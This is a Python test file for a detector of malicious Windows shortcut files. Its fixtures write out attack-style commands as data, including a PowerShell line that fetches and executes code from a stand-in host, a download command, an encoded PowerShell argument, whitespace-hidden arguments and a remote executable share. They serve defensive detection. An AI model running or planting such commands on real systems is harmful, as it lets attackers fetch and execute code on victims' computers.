"""Shortcuts that run shells, and those that wanted programs make."""

from __future__ import annotations

import pytest

from fyke.files.base import Content
from fyke.files.budget import Meter
from fyke.files.programs.shortcuts import ShortcutOverlays, Shortcuts
from fyke.model import Finding, Lead, Observable
from tests.files.builders.lnk import shortcut

CMD = "%SystemRoot%\\System32\\cmd.exe"
POWER = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def _found(name="a.lnk", **fields):
    said = list(Shortcuts().look(Content(shortcut(**fields), name, "lnk")))
    return {one.symbol.name for one in said if isinstance(one, Finding)}, said


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"target": CMD, "arguments": "/c start notes.txt"}, {"LNK_COMMAND"}),
        ({"target": POWER, "arguments": "iwr http://example.test/a -outfile a"}, {"LNK_COMMAND", "LNK_DOWNLOAD"}),
        ({"target": CMD, "arguments": "/c \\\\example.test\\a.exe" + " " * 60 + "&echo"}, {"LNK_HIDDEN_ARGS"}),
        ({"target": CMD, "arguments": "/c " + "x" * 300}, {"LNK_HIDDEN_ARGS"}),
        ({"target": POWER, "arguments": "-enc " + "QQBB" * 20}, {"LNK_ENCODED"}),
        ({"target": CMD, "arguments": "/c a", "icon": "C:\\Program Files\\Adobe\\AcroRd32.exe"}, {"LNK_DOCUMENT_ICON"}),
        ({"share": "\\\\203.0.113.9@8080\\dav\\a.exe"}, {"LNK_REMOTE"}),
        ({"target": CMD, "arguments": "/c a", "overlay": b"x" * 900}, {"LNK_OVERLAY"}),
    ],
)
def test_bad_shortcuts(fields, expected):
    """Each of the ways in which shortcuts are misused is found."""
    assert expected <= _found(**fields)[0]


@pytest.mark.parametrize(
    "fields",
    [
        {"local": "C:\\Program Files\\Example\\example.exe", "icon": "C:\\Program Files\\Example\\example.exe"},
        {"share": "\\\\files\\sales\\plan 2026.xlsx"},
        {"items": ("C:\\", "Users", "me", "Documents")},
        {"target": "%windir%\\explorer.exe", "arguments": "C:\\Users\\me\\Documents"},
        {"target": CMD},
    ],
)
def test_wanted_shortcuts(fields):
    """Shortcuts to programs, documents, folders and to a plain shell are left alone."""
    assert _found(**fields)[0] == set()


def test_name_of_a_document():
    """A shortcut whose name without .lnk is that of a document is found."""
    assert "LNK_MISNAMED" in _found("Invoice.pdf.lnk", local="C:\\a.exe")[0]


def test_where_it_was_made_and_where_it_leads():
    """The computer, its card and the addresses of the command are given on."""
    _, said = _found(target=POWER, arguments="irm https://example.test/x|iex", machine="DESK-1", mac=b"\0\1\2\3\4\5")
    assert Observable("machine", "desk-1", "attachment") in said
    assert Observable("mac", "00:01:02:03:04:05", "attachment") in said
    assert Lead("https://example.test/x", "shortcut") in said


def test_what_stands_behind_the_end_comes_out():
    """The command becomes a script of its own, and the bytes behind the end a file."""
    data = shortcut(target=POWER, arguments="-c dir", overlay=b"%PDF-1.4 " * 20)
    members = list(ShortcutOverlays().open(Content(data, "a.lnk", "lnk"), Meter()))
    assert [member.kind for member in members] == ["powershell", ""]
    assert members[1].data == b"%PDF-1.4 " * 20
